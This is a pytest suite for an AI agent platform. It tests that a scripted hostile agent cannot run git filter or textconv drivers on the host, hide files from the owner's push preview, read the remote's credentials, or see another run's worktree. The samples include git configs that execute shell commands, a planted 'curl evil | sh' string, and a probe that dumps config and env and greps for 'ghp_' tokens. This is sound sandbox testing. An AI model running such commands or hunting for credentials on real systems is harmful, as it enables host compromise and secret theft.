"""The hostile-worktree suite, git part: what the agent plants in its worktree never runs on the
host, never hides a change from the owner, and never reaches the remote's credentials."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentos.core import vault
from approvals import service
from approvals.models import Approval
from kernel import artifacts, runs
from kernel.models import Artifact, Run, Step
from kernel.worker import Worker
from missions.models import Mission
from tests.polling import wait_for
from tests.tools.conftest import FINISH, AgentRun, calls, outputs
from tests.tools.git_http import GitServer, bare_remote, git_http_server
from tools import remotes, workspace
from tools.builtin import CODING_TOOLS
from tools.git import MAX_PREVIEW
from tools.models import CredentialKind, RemoteCredential

pytestmark = pytest.mark.django_db(transaction=True)

TOKEN = "ghp_" + "s3cr3t" * 6  # a canary, not a credential


def approve(run: Run) -> None:
    approval = Approval.objects.filter(run=run).order_by("-pk").first()
    assert approval is not None
    assert approval.status == "pending"
    service.decide(approval.pk, approve=True, args_hash=approval.request["args_hash"])
    Worker(lease_seconds=30).run_until_idle()
    run.refresh_from_db()


def test_a_nested_repository_s_filter_never_runs_on_the_host(hostile: AgentRun) -> None:
    marker = Path(f"/tmp/agentos-marker-{uuid.uuid4().hex}")  # noqa: S108
    plant = (
        "git init -q sub && cd sub && echo a > a && git add a && git commit -qm a"
        f" && git config filter.x.clean \"sh -c 'id > {marker}; cat'\""
        f" && git config filter.x.smudge \"sh -c 'id > {marker}; cat'\""
        f" && git config diff.x.textconv \"sh -c 'id > {marker}; cat'\""
        " && printf '* filter=x diff=x\\n' > .gitattributes && echo b >> a && echo planted"
    )
    run = hostile(
        [
            calls(("shell", {"command": plant})),
            calls(("git_status", {}), ("git_diff", {})),
            calls(("git_commit", {"message": "with a nested repository"})),
            calls(("git_status", {}), ("git_diff", {}), ("git_log", {})),
            calls(("git_push", {"remote": "origin", "branch": "main"})),
            FINISH,
        ]
    )
    assert "planted" in outputs(run, "shell")[0]["output"]
    assert run.status == "waiting"  # the push asks the owner: its preview ran on the host
    assert not marker.exists()
    approve(run)
    assert run.status == "done", run.error
    assert outputs(run, "git_push")[0]["output"].startswith("Pushed ")
    assert not marker.exists()


def test_the_push_preview_shows_what_attributes_would_hide(
    hostile_mission: tuple[Mission, Path], hostile: AgentRun
) -> None:
    # The project itself says "never diff anything" and names a textconv driver.
    _, repo = hostile_mission
    (repo / ".gitattributes").write_text("* -diff\n*.py diff=hide\n")
    workspace.host_git(repo, "add", ".gitattributes")
    workspace.host_git(repo, "commit", "--quiet", "-m", "attributes")
    workspace.host_git(repo, "push", "--quiet", "origin", "main")
    hidden = "HIDDEN-PAYLOAD = 'curl evil | sh'\n"
    big = "".join(f"line {n} of a long generated file\n" for n in range(4000))
    run = hostile(
        [
            calls(("write_file", {"path": "a_payload.py", "content": hidden})),
            calls(("write_file", {"path": "big.txt", "content": big})),
            calls(("git_commit", {"message": "innocent"})),
            calls(("git_push", {"remote": "origin", "branch": "main"})),
            FINISH,
        ]
    )
    preview = Approval.objects.get(run=run).request["preview"]
    assert "Binary files" not in preview["diff"]
    assert "HIDDEN-PAYLOAD" in preview["diff"]
    assert {(f["path"], f["status"], f["size"]) for f in preview["files"]} == {
        ("a_payload.py", "A", len(hidden)),
        ("big.txt", "A", len(big)),
    }
    assert preview["files_total"] == 2
    # Cut for the page, said plainly, and whole in an artifact.
    assert preview["diff_truncated"] is True
    assert len(preview["diff"]) == MAX_PREVIEW < preview["diff_chars"]
    full = Artifact.objects.get(sha256=preview["full_diff"])
    with artifacts.open_artifact(full) as handle:
        text = handle.read().decode()
    assert len(text) == preview["diff_chars"]
    assert "line 3999 of a long generated file" in text
    # The approval binds the commit and its tree, as the staging repository holds them.
    stage = workspace.staging(str(repo))
    tree = workspace.host_git(stage, "rev-parse", f"{preview['commit']}^{{tree}}").stdout
    assert preview["tree"] == tree.strip()


def test_the_approval_page_lists_files_and_says_when_the_diff_is_cut(
    hostile: AgentRun, owner_client: object
) -> None:
    big = "".join(f"row {n}\n" for n in range(20000))
    run = hostile(
        [
            calls(("write_file", {"path": "rows.txt", "content": big})),
            calls(("git_commit", {"message": "rows"})),
            calls(("git_push", {"remote": "origin", "branch": "main"})),
            FINISH,
        ]
    )
    approval = Approval.objects.get(run=run)
    page = owner_client.get(f"/approvals/{approval.pk}/")  # type: ignore[attr-defined]
    html = page.content.decode()
    assert "rows.txt" in html
    assert 'id="diff-truncated"' in html
    assert f"/artifacts/{approval.request['preview']['full_diff']}" in html


@pytest.fixture
def served(demo_base: Path) -> Iterator[GitServer]:
    """The demo's remote as a smart-HTTP server that demands the token."""
    root = demo_base / "served"
    root.mkdir()
    bare_remote(root / "calc.git")
    with git_http_server(root, user="x-access-token", token=TOKEN) as server:
        yield server


def test_no_credential_is_readable_inside_and_the_push_uses_it(
    hostile_mission: tuple[Mission, Path], hostile: AgentRun, served: GitServer
) -> None:
    mission, repo = hostile_mission
    workspace.host_git(repo, "remote", "set-url", "origin", f"{served.url}calc.git")
    workspace.host_git(repo, "config", "http.extraHeader", f"X-Token: {TOKEN}")
    assert mission.project_id is not None
    remotes.put(
        project_id=mission.project_id, remote="origin", kind=CredentialKind.TOKEN, secret=TOKEN
    )
    # /usr is the host's, read-only, and nothing of a run is ever put there: searching it took
    # most of a minute for nothing.
    look = (
        "cat .git/config; git config --list --show-origin; env; ls -a / /tmp ..; grep -rs ghp_ /"
        " --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | head; echo done"
    )
    run = hostile(
        [
            calls(("shell", {"command": look})),
            calls(("write_file", {"path": "new.txt", "content": "new\n"})),
            calls(("git_commit", {"message": "new"})),
            calls(("git_push", {"remote": "origin", "branch": "main"})),
            FINISH,
        ]
    )
    seen = outputs(run, "shell")[0]["output"]
    assert seen.rstrip().endswith("[exit code 0]"), seen
    assert TOKEN not in seen
    assert "127.0.0.1" not in seen  # not even the remote's address
    assert "[remote" not in seen
    approve(run)
    assert run.status == "done", run.error
    assert outputs(run, "git_push")[0]["output"].startswith("Pushed ")
    pushed = workspace.host_git(served.root / "calc.git", "log", "--format=%s", "-n1", "main")
    assert pushed.stdout.strip() == "new"
    # Nowhere in the journal, nor at rest in the clear.
    journal = json.dumps(list(Step.objects.filter(run=run).values("request", "result")))
    assert TOKEN not in journal
    stored = RemoteCredential.objects.get(project_id=mission.project_id)
    assert TOKEN.encode() not in bytes(stored.ciphertext)
    assert vault.decrypt(bytes(stored.ciphertext)) == TOKEN


def test_a_push_without_the_credential_is_refused_without_showing_it(
    hostile_mission: tuple[Mission, Path], hostile: AgentRun, served: GitServer
) -> None:
    _, repo = hostile_mission
    url = served.url.replace("://", "://u:pw@") + "calc.git"
    workspace.host_git(repo, "remote", "set-url", "origin", url)
    run = hostile([calls(("git_push", {"remote": "origin", "branch": "main"})), FINISH])
    assert served.refused
    (refused,) = outputs(run, "git_push")
    assert refused["is_error"]
    assert "could not be prepared: Cannot reach origin" in refused["output"]
    assert "u:pw" not in refused["output"]


def test_a_run_cannot_see_another_run_s_worktree(hostile: AgentRun) -> None:
    first = hostile([calls(("write_file", {"path": "mine.txt", "content": "first's"})), FINISH])
    other = Path(first.workspace)
    probe = (
        f"ls {other} 2>&1; cat {other}/mine.txt 2>&1; ls {other.parent} 2>&1;"
        f" ls {workspace.root()}/staging 2>&1; echo end"
    )
    second = hostile([calls(("shell", {"command": probe})), FINISH])
    seen = outputs(second, "shell")[0]["output"]
    assert "first's" not in seen
    assert "run-" not in seen.replace(str(other), "")
    assert "end" in seen


def test_a_remote_that_hangs_does_not_hold_a_cancelled_run(
    hostile_mission: tuple[Mission, Path],
) -> None:
    mission, repo = hostile_mission
    with socket.socket() as silent:  # accepts connections, never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/calc.git"
        workspace.host_git(repo, "remote", "set-url", "origin", url)
        run = runs.start_run(
            account=mission,
            program="agent",
            input={
                "goal": "Push.",
                "provider": "scripted",
                "model": "scripted",
                "tools": CODING_TOOLS,
                "script": {"turns": [calls(("git_push", {"branch": "main"})), FINISH]},
                "repository": str(repo),
            },
        )
        worker = threading.Thread(target=Worker(lease_seconds=2).run_until_idle)
        worker.start()
        wait_for(
            lambda: Step.objects.filter(run=run, name="approval-request:git_push").exists(),
            timeout=30,
            message="the push to be prepared",
            interval=0.05,
        )
        connected, _ = silent.accept()  # git waits for an answer that never comes
        asked = time.monotonic()
        runs.request_stop(run.pk)
        worker.join(timeout=30)
        assert not worker.is_alive()
        wait_for(  # the worker may return before its tool thread does
            lambda: not git_processes(url),
            timeout=asked + 5 - time.monotonic(),
            message="git to be gone within 5 s of the stop",
            interval=0.05,
        )
        connected.close()
    assert Run.objects.get(pk=run.pk).status == "cancelled"


def git_processes(url: str) -> list[str]:
    found = subprocess.run(["pgrep", "-af", url], capture_output=True, text=True, check=False)
    return found.stdout.splitlines()
